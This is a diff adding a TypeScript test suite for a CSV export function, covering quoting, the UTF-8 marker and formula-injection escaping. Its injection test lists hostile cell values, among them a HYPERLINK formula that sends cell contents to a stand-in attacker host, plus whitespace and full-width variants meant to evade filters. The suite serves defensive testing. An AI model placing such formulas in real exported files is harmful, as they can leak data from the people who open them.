@@ -1,0 +1,73 @@
+import { parse } from 'csv-parse/sync';
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { csvOf } from './csv.ts';
+
+async function* inBatches<R>(...batches: R[][]) {
+  for (const batch of batches) yield batch;
+}
+
+const columns = [
+  { header: 'Name', value: (row: string) => row },
+  { header: 'Length', value: (row: string) => row.length },
+];
+
+async function written(...batches: string[][]): Promise<string> {
+  const parts = [];
+  for await (const part of csvOf(columns, inBatches(...batches))) parts.push(part);
+  return parts.join('');
+}
+
+const read = (csv: string): string[][] => parse(csv, { bom: true, relax_column_count: false });
+
+describe('a CSV file', () => {
+  it('says that it is UTF-8, what its columns are, and every row once', async () => {
+    const csv = await written(['Zoë "Z" Å, Jr.', 'two\nlines'], [], ['三']);
+    expect(csv).toBe(
+      '\uFEFF"Name","Length"\r\n"Zoë ""Z"" Å, Jr.",14\r\n"two\nlines",9\r\n"三",1\r\n',
+    );
+  });
+
+  it('has its columns without any row', async () => {
+    expect(await written()).toBe('\uFEFF"Name","Length"\r\n');
+  });
+
+  it.each([
+    '=1+1',
+    '=HYPERLINK("http://evil.example?"&A1)',
+    '+1 555 0100',
+    '-2+3',
+    '@SUM(A1)',
+    '\t=1',
+    '\r=1',
+    '\n=1',
+    ' =1+1',
+    '\u00a0=1+1',
+    '\u200b=1+1',
+    '\uff1d1+1',
+    '\uff0b1',
+    '\uff0d1',
+    '\uff201',
+    '=1,2;"3"',
+  ])('holds no formula: %j', async (evil) => {
+    const [, row] = read(await written([evil]));
+    expect(row?.[0]).toBe(`'${evil}`);
+  });
+
+  it('gives every text back, or with one apostrophe before it', async () => {
+    await fc.assert(
+      fc.asyncProperty(
+        fc.array(fc.string({ unit: 'binary', maxLength: 12 }), { maxLength: 12 }),
+        async (texts) => {
+          const rows = read(await written(texts)).slice(1);
+          expect(rows).toHaveLength(texts.length);
+          texts.forEach((text, at) => {
+            const cell = rows[at]?.[0] ?? '';
+            expect([text, `'${text}`]).toContain(cell);
+            expect(cell).not.toMatch(/^\s*[=+\-@]/);
+          });
+        },
+      ),
+    );
+  });
+});
